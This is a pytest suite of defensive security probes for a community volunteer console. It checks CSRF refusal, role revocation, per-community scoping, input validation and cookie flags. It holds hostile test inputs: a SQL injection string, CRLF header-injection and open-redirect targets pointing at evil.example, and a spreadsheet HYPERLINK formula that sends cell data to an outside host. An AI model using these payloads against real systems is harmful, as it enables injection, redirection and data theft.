"""Review probes (hostile users against the console): every route of the url_map without its CSRF
token, with bad values, after the role ends; cache and cookie flags; scope and both sides on the
ids a form or a query string carries."""
import re

import pytest

from server.extensions import db
from server.identity.models import Community

BAD_VALUES = ["²", "¹2", "", "0", "-1", "x", "1e9", "99999999999999999999", "%00", "\x00", "1.5", "[]",
              "' OR 1=1 --", "２", "1,2", "nan", "2026-13-45", "9999-12-31", "0001-01-01"]
QUERY_KEYS = ["scope", "id", "from", "to", "group_by", "page", "status", "community_id",
              "street_id", "district_id", "station_id", "day_id", "q", "kind", "action",
              "object_type", "actor_id", "next", "run_id", "unit_id", "month", "year",
              "drive_id", "tab", "state", "filter", "since"]
FORM_KEYS = ["ids", "decision", "reason", "volunteer_id", "user_id", "openid", "role", "scope",
             "name", "points", "kind", "parent_id", "street_id", "community_id", "district_id",
             "lat", "lng", "amount", "quantity", "item", "card", "title", "day_id", "household_id",
             "score", "note", "dry_run", "tier", "proposal_ids", "holder_id", "category",
             "starts_at", "ends_at", "capacity", "address", "station_id", "next"]


def _console_rules(app):
    return [r for r in app.url_map.iter_rules()
            if r.rule.startswith("/console") and r.endpoint not in ("console.static",
                                                                    "console.not_a_page")]


def _path(rule, value="1"):
    path = rule.rule
    for arg in rule.arguments:
        if arg == "decision":
            path = re.sub(r"<[^>]*:?decision>", "accept", path)
        elif arg == "kind":
            path = re.sub(r"<[^>]*:?kind>", "communities", path)
        elif arg == "action":
            path = re.sub(r"<[^>]*:?action>", "approve", path)
        else:
            path = re.sub(r"<[^>]*" + arg + ">", value, path)
    return path


def _posts(app):
    return [r for r in _console_rules(app) if "POST" in r.methods]


def _gets(app):
    return [r for r in _console_rules(app) if "GET" in r.methods]


@pytest.mark.parametrize("who", ["admin", "secretary"])
def test_every_console_post_without_its_csrf_token_is_refused(app, console, world, who):
    browser = console(who)
    for rule in _posts(app):
        resp = browser.post(_path(rule), {"ids": "1", "decision": "approve"}, csrf=False)
        assert resp.status_code == 400, (rule.rule, resp.status_code)
        resp = browser.post(_path(rule), {"ids": "1", "csrf_token": "forged"}, csrf=False)
        assert resp.status_code == 400, (rule.rule, resp.status_code)


def test_a_stranger_posting_without_a_session_changes_nothing(app, client, world):
    for rule in _posts(app):
        resp = client.post(_path(rule), data={"ids": "1"})
        assert resp.status_code in (302, 303, 400), (rule.rule, resp.status_code)


@pytest.mark.parametrize("who", ["admin", "secretary"])
def test_no_console_get_is_a_5xx_for_bad_query_values(app, console, world, who):
    browser = console(who)
    for rule in _gets(app):
        for value in ("0", "99999999"):
            resp = browser.client.get(_path(rule, value))
            assert resp.status_code < 500, (rule.rule, value, resp.status_code)
        for bad in BAD_VALUES:
            query = {key: bad for key in QUERY_KEYS}
            resp = browser.client.get(_path(rule), query_string=query)
            assert resp.status_code < 500, (rule.rule, bad, resp.status_code)
            assert resp.headers.get("Cache-Control") == "no-store", rule.rule
        for key in QUERY_KEYS:
            resp = browser.client.get(_path(rule), query_string=[(key, "1"), (key, "2")])
            assert resp.status_code < 500, (rule.rule, key, resp.status_code)


@pytest.mark.parametrize("who", ["admin", "secretary"])
def test_no_console_post_is_a_5xx_for_bad_form_values(app, console, world, who):
    browser = console(who)
    browser.get("/console/")
    for rule in _posts(app):
        if rule.endpoint in ("console.logout",):
            continue
        for bad in BAD_VALUES:
            form = {key: bad for key in FORM_KEYS}
            resp = browser.post(_path(rule), form)
            assert resp.status_code < 500, (rule.rule, bad, resp.status_code,
                                            resp.get_data(as_text=True)[-300:])
            db.session.rollback()


@pytest.mark.parametrize("target", ["/console/\r\nSet-Cookie: x=1", "/console/\t//evil.example",
                                    "/console/%0d%0aX: y", "//evil.example/console/",
                                    "/console//evil.example", "https://evil.example/console/",
                                    "/console/\\evil.example", "/console/\x00"])
def test_a_bad_next_after_sign_in_is_never_a_5xx_nor_another_site(app, world, target):
    from tests.console.conftest import ConsoleClient, demo_user_id
    browser = ConsoleClient(app.test_client())
    page = browser.get("/console/login", query_string={"next": target})
    assert page.status_code == 200
    resp = browser.post("/console/login/demo", {
        "user_id": demo_user_id(page.get_data(as_text=True), "secretary"), "next": target})
    assert resp.status_code == 303, resp.status_code
    location = resp.headers["Location"]
    assert location.startswith("/console/") and not location.startswith("/console//")
    assert "\n" not in location and "\r" not in location


# --- access ends with the role: every page and every POST, not just the one tried ------------

def _end_everywhere(app, browser):
    for rule in _console_rules(app):
        if rule.endpoint in ("console.login", "console.login_qr", "console.login_poll",
                             "console.login_demo"):
            continue
        path = _path(rule)
        resp = browser.client.get(path) if "GET" in rule.methods else browser.post(path, {
            "ids": "1", "decision": "approve"})
        assert resp.status_code in (302, 303), (rule.rule, resp.status_code)
        assert resp.headers["Location"].startswith("/console/login"), rule.rule


def test_a_revoked_role_ends_every_page_and_every_post(app, console, world):
    from server.identity.models import RoleGrant
    from server.timeutil import utcnow
    browser = console("admin")
    browser.get("/console/roles")
    for grant in db.session.execute(db.select(RoleGrant).filter_by(
            user_id=world.users["admin"].id)).scalars():
        grant.revoked_at = utcnow()
    db.session.commit()
    _end_everywhere(app, browser)


def test_a_cancelled_account_ends_every_page_and_every_post(app, console, world):
    from server.identity.models import User
    from server.timeutil import utcnow
    browser = console("secretary")
    browser.get("/console/wishes")
    db.session.get(User, world.users["secretary"].id).cancelled_at = utcnow()
    db.session.commit()
    _end_everywhere(app, browser)


def test_a_scene_signs_in_once_and_cannot_be_confirmed_again(app, world, login, client):
    from tests.console.conftest import ConsoleClient, demo_user_id
    browser = ConsoleClient(app.test_client())
    page = browser.get("/console/login")
    scene = re.search(r'/console/login/qr/([^"/]+)\.png', page.get_data(as_text=True))
    scene = scene.group(1)
    resp = browser.post("/console/login/demo",
                        {"user_id": demo_user_id(page.get_data(as_text=True), "secretary")})
    assert resp.status_code == 303
    if scene:
        again = client.post(f"/api/v1/console/sessions/{scene}/confirm",
                            headers=login("admin"))
        assert again.status_code in (404, 409), again.status_code
    # the poll after signing in does not hand out a second session
    browser.get("/console/")
    poll = browser.post("/console/login/poll", {})
    assert poll.get_json()["status"] == "expired"


def test_the_console_cookie_is_httponly_and_samesite(app, world):
    from tests.console.conftest import ConsoleClient
    browser = ConsoleClient(app.test_client())
    resp = browser.client.get("/console/login")
    cookie = resp.headers.get("Set-Cookie", "")
    assert "lianxin_console=" in cookie and "HttpOnly" in cookie and "SameSite=Lax" in cookie
    assert resp.headers["Cache-Control"] == "no-store"


# --- scope on the ids of a form ----------------------------------------------------------------

def test_a_batch_mixing_my_wish_and_another_communitys_changes_nothing(console, world):
    from server.wishes.models import Wish, WishStatus
    from tests.factories import make_wish
    theirs = make_wish(world, owner="resident_b", status="pending_review")
    db.session.commit()
    mine = world.wishes["pending"].id
    browser = console("secretary")
    browser.get("/console/wishes")
    resp = browser.post("/console/wishes/review", {"ids": [mine, theirs.id], "decision": "approve"})
    assert resp.status_code == 404
    db.session.rollback()
    assert db.session.get(Wish, mine).status == WishStatus.PENDING_REVIEW
    assert db.session.get(Wish, theirs.id).status == WishStatus.PENDING_REVIEW


def test_an_admin_cannot_grant_herself_a_role_in_the_console(console, world):
    from server.identity.models import RoleGrant
    browser = console("admin")
    browser.get("/console/roles")
    before = db.session.execute(db.select(db.func.count()).select_from(RoleGrant)).scalar_one()
    for role, scope in (("secretary", f"community_id:{world.communities[0].id}"),
                        ("admin", f"street_id:{world.streets[0].id}"),
                        ("volunteer", f"community_id:{world.communities[0].id}")):
        resp = browser.post("/console/roles/grant", {"openid": "admin", "role": role,
                                                     "scope": scope})
        assert resp.status_code == 403, (role, resp.status_code)
    db.session.rollback()
    assert db.session.execute(db.select(db.func.count()).select_from(RoleGrant)).scalar_one() \
        == before


def test_a_community_admin_cannot_grant_beyond_her_community(console, world):
    from tests.api.imports_helpers import scoped_admin
    scoped_admin(world, "admin_a", community_id=world.communities[0].id)
    browser = console("admin_a")
    browser.get("/console/roles")
    for scope in (f"street_id:{world.streets[0].id}", f"district_id:{world.district.id}",
                  f"community_id:{world.communities[1].id}"):
        resp = browser.post("/console/roles/grant", {"openid": "resident", "role": "admin",
                                                     "scope": scope})
        assert resp.status_code == 403, (scope, resp.status_code)


def test_a_community_admin_reads_only_her_communitys_audit_rows(console, world):
    from server.audit.models import AuditEntry
    from tests.api.imports_helpers import scoped_admin
    a, b, _ = world.communities
    db.session.add_all([AuditEntry(action="probe.a", object_type="x", object_id="1", actor_role="admin",
                                   scope=f"community:{a.id}"),
                        AuditEntry(action="probe.b", object_type="x", object_id="2", actor_role="admin",
                                   scope=f"community:{b.id}"),
                        AuditEntry(action="probe.none", object_type="x", object_id="3", scope="",
                                   actor_role="admin")])
    db.session.commit()
    scoped_admin(world, "admin_a", community_id=a.id)
    browser = console("admin_a")
    page = browser.get("/console/audit").get_data(as_text=True)
    assert "probe.a" in page or "probe" in page
    assert "probe.b" not in page and "probe.none" not in page
    sheet = browser.client.get("/console/audit.xlsx")
    assert sheet.status_code == 200
    assert b"probe.b" not in sheet.data


def test_an_admin_of_another_district_sees_none_of_our_imports(console, world):
    import io

    from server.identity.models import District
    from server.org.imports.templates import workbook_from_rows
    from tests.api.imports_helpers import scoped_admin
    other = District(name="邻区", city="杭州市")
    db.session.add(other)
    db.session.commit()
    ours = console("admin")
    ours.get("/console/imports")
    body = workbook_from_rows("units", [{"name": "区税务局党支部"}])
    resp = ours.post("/console/imports", {"kind": "units", "file": (io.BytesIO(body), "ours.xlsx"),
                                          "dry_run": "1"}, content_type="multipart/form-data")
    run_id = int(resp.headers["Location"].rsplit("/", 1)[1])
    scoped_admin(world, "admin_d2", district_id=other.id)
    theirs = console("admin_d2")
    assert f'data-import="{run_id}"' not in theirs.get("/console/imports").get_data(as_text=True)
    assert theirs.get(f"/console/imports/{run_id}").status_code == 404
    # a street admin of our district still sees it (the import's scope is ours, the district)
    assert ours.get(f"/console/imports/{run_id}").status_code == 200


def test_a_name_typed_as_a_formula_is_text_in_the_audit_export(console, world, client, login):
    from io import BytesIO

    from openpyxl import load_workbook
    formula = '=HYPERLINK("http://x.cn/?"&C3,"查看")'
    resp = client.patch("/api/v1/me", json={"name": formula}, headers=login("street_secretary"))
    assert resp.status_code == 200
    street_admin = console("street_secretary")  # an audited act: the scan's confirmation
    street_admin.get("/console/")
    sheet = console("admin").client.get("/console/audit.xlsx")
    assert sheet.status_code == 200
    cells = [c for row in load_workbook(BytesIO(sheet.data)).active.iter_rows() for c in row]
    named = [c for c in cells if c.value == formula]
    assert named and all(c.data_type == "s" for c in named)
    assert not [c for c in cells if c.data_type == "f"]


@pytest.mark.parametrize("scene", ["a" * 3000, "%E4%B8%AD" * 400, "x" * 40])
def test_the_login_qr_of_any_scene_text_is_never_a_5xx(client, world, scene):
    resp = client.get(f"/console/login/qr/{scene}.png")
    assert resp.status_code in (200, 404), resp.status_code


HUGE = "99999999999999999999"


def test_an_id_beyond_the_integer_range_in_a_valid_looking_form_is_a_4xx(console, world):
    from server.projects.models import CATEGORIES
    from tests.donation_world import build_donations
    build_donations(world)
    db.session.commit()
    secretary = console("secretary")
    secretary.get("/console/projects")
    resp = secretary.post("/console/projects/new", {"community_id": HUGE, "title": "修补道路",
                                                    "category": next(iter(CATEGORIES))})
    assert 400 <= resp.status_code < 500, resp.status_code
    keeper = console("keeper")
    keeper.get("/console/desk")
    for form in ({"station_id": HUGE, "card_id": "1", "qty-1": "1"},
                 {"station_id": "1", "card_id": HUGE, "qty-1": "1"},
                 {"station_id": "1", "card_id": "1", f"qty-{HUGE}": "1"},
                 {"station_id": "1", "card_id": "1", "qty-1": HUGE},
                 {"station_id": "²", "card_id": "1", "qty-²": "²"}):
        resp = keeper.post("/console/desk/redeem", form)
        assert 400 <= resp.status_code < 500, (form, resp.status_code)
        db.session.rollback()


def test_an_unexpected_error_on_a_console_page_is_the_consoles_chinese_page(app, console,
                                                                             world, monkeypatch):
    from console.views import wishes as wishes_view
    browser = console("secretary")

    def broken(*args, **kwargs):
        raise ValueError("a bug")
    monkeypatch.setattr(wishes_view, "wall_query", broken)
    resp = browser.client.get("/console/wishes")
    assert resp.status_code == 500 and resp.mimetype == "text/html"
    assert "服务器" in resp.get_data(as_text=True) or "稍后" in resp.get_data(as_text=True)
    assert resp.headers["Cache-Control"] == "no-store"


@pytest.mark.parametrize("who", ["keeper", "fund_officer", "unit_secretary", "leading_group"])
def test_no_console_route_is_a_5xx_for_the_other_roles(app, console, world, who):
    from tests.care_world import build_care
    from tests.donation_world import build_donations
    build_donations(world)
    build_care(world)
    db.session.commit()
    browser = console(who)
    for rule in _console_rules(app):
        if rule.endpoint == "console.logout":
            continue
        for value in ("1", "2", "99999999"):
            if "GET" in rule.methods:
                resp = browser.client.get(_path(rule, value), query_string={
                    key: BAD_VALUES[0] for key in QUERY_KEYS})
            else:
                resp = browser.post(_path(rule, value), {key: value for key in FORM_KEYS})
            assert resp.status_code < 500, (who, rule.rule, value, resp.status_code)
            db.session.rollback()
        for bad in BAD_VALUES:
            if "GET" in rule.methods:
                resp = browser.client.get(_path(rule), query_string={k: bad for k in QUERY_KEYS})
            else:
                resp = browser.post(_path(rule), {key: bad for key in FORM_KEYS})
            assert resp.status_code < 500, (who, rule.rule, bad, resp.status_code)
            db.session.rollback()


def test_accepting_all_of_a_run_that_serves_my_own_wish_changes_nothing(console, world):
    from server.matching_runs.models import MatchProposal, ProposalStatus
    from server.wishes.models import Wish, WishStatus
    from tests.factories import make_wish
    own = make_wish(world, owner="secretary", status="open")
    mine = MatchProposal(run_id=world.run.id, task_type="wish", task_id=own.id,
                         community_id=world.communities[0].id,
                         volunteer_id=world.volunteers["volunteer"].id, distance_m=300,
                         score=300, reasons=["距离 0.3 公里"])
    db.session.add(mine)
    db.session.commit()
    browser = console("secretary")
    browser.get(f"/console/matching/runs/{world.run.id}")
    assert browser.post(f"/console/matching/proposals/{mine.id}/accept").status_code == 403
    assert browser.post(f"/console/matching/runs/{world.run.id}/accept").status_code == 403
    db.session.rollback()
    assert db.session.get(MatchProposal, mine.id).status == ProposalStatus.PROPOSED
    assert db.session.get(MatchProposal, world.proposal.id).status == ProposalStatus.PROPOSED
    assert db.session.get(Wish, own.id).status == WishStatus.OPEN


def test_a_grant_at_a_grid_or_station_is_in_the_audit_trail_of_the_admins_over_it(console,
                                                                                   world):
    from server.audit.models import AuditEntry
    from server.identity.models import Grid
    from tests.api.imports_helpers import scoped_admin
    a, b, _ = world.communities
    grid, grid_b = Grid(name="一网格", community_id=a.id), Grid(name="乙网格", community_id=b.id)
    db.session.add_all([grid, grid_b])
    db.session.commit()
    admin = console("admin")
    admin.get("/console/roles")
    for openid, target in (("resident", grid), ("resident_b", grid_b)):
        resp = admin.post("/console/roles/grant", {"openid": openid, "role": "grid_worker",
                                                   "scope": f"grid_id:{target.id}"})
        assert resp.status_code == 303
    rows = db.session.execute(db.select(AuditEntry).filter_by(action="role.grant")).scalars().all()
    assert {r.scope for r in rows} == {f"grid:{grid.id}", f"grid:{grid_b.id}"}
    def scopes(browser):
        from server.excel import read_sheet
        sheet = browser.client.get("/console/audit.xlsx", query_string={"action": "role.grant"})
        assert sheet.status_code == 200
        _title, headers, body = read_sheet(sheet.data)
        return {row[headers.index("范围")] for row in body if row and row[0]}
    assert scopes(admin) == {f"grid:{grid.id}", f"grid:{grid_b.id}"}
    scoped_admin(world, "admin_a", community_id=a.id)
    assert scopes(console("admin_a")) == {f"grid:{grid.id}"}


def test_a_community_admin_edits_no_part_of_the_tree_outside_her_community(console, world):
    from server.identity.models import Community, Grid, Street, Unit
    from tests.api.imports_helpers import scoped_admin
    a, b, _ = world.communities
    grid_b = Grid(name="乙网格", community_id=b.id)
    unit_b = Unit(name="乙单位", community_id=b.id)
    db.session.add_all([grid_b, unit_b])
    db.session.commit()
    scoped_admin(world, "admin_a", community_id=a.id)
    browser = console("admin_a")
    browser.get("/console/org")
    refused = [
        ("/console/org/grids/new", {"name": "越界网格", "community_id": b.id}),
        ("/console/org/units/new", {"name": "越界单位", "community_id": b.id}),
        ("/console/org/units/new", {"name": "无社区单位"}),
        ("/console/org/communities/new", {"name": "越界社区", "street_id": world.streets[0].id,
                                          "lat": "30.3", "lng": "120.1"}),
        ("/console/org/streets/new", {"name": "越界街道", "district_id": world.district.id}),
        (f"/console/org/communities/{b.id}/rename", {"name": "改名"}),
        (f"/console/org/streets/{world.streets[0].id}/rename", {"name": "改名"}),
        (f"/console/org/grids/{grid_b.id}/rename", {"name": "改名"}),
        (f"/console/org/units/{unit_b.id}/rename", {"name": "改名"}),
        (f"/console/org/communities/{b.id}/retire", {"retired": "1"}),
        (f"/console/org/communities/{b.id}/delete", {}),
    ]
    for path, form in refused:
        resp = browser.post(path, form)
        assert resp.status_code in (403, 404), (path, resp.status_code)
    db.session.rollback()
    assert db.session.get(Community, b.id).name == "乙社区"
    assert db.session.get(Community, b.id).retired_at is None
    assert db.session.get(Street, world.streets[0].id).name == "测试街道1"
    assert db.session.get(Grid, grid_b.id).name == "乙网格"
    assert db.session.get(Unit, unit_b.id).name == "乙单位"
    assert db.session.execute(db.select(Grid).filter_by(name="越界网格")).first() is None


def test_my_home_visit_cannot_go_to_another_communitys_volunteer(console, world):
    from server.orders.models import ServiceOrder
    from tests.order_world import make_visit
    visit = make_visit(world)
    db.session.commit()
    browser = console("secretary")
    browser.get("/console/orders")
    for volunteer in (world.volunteers["volunteer_b"].id, world.volunteers["applicant"].id):
        resp = browser.post(f"/console/orders/{visit.id}/assign", {"volunteer_id": volunteer})
        assert resp.status_code in (403, 404, 409, 422), (volunteer, resp.status_code)
    db.session.rollback()
    assert db.session.get(ServiceOrder, visit.id).provider_id is None


def test_text_no_database_stores_is_refused_before_any_view(console, world):
    """NUL (PostgreSQL refuses it in text: it was a 500 on 组织架构's rename and 一人一档's
    search there) and other control characters are refused with the console's 422 page, on
    both databases, as the API's parser refuses them."""
    secretary = console("secretary")
    resp = secretary.get("/console/volunteer-files?q=%E6%9D%8E%00")
    assert resp.status_code == 422 and "控制字符" in resp.get_data(as_text=True)
    admin = console("admin")
    resp = admin.post(f"/console/org/community/{world.communities[0].id}/rename",
                      {"name": "新名\x00字"})
    assert resp.status_code == 422
    db.session.rollback()
    assert "\x00" not in db.session.get(Community, world.communities[0].id).name
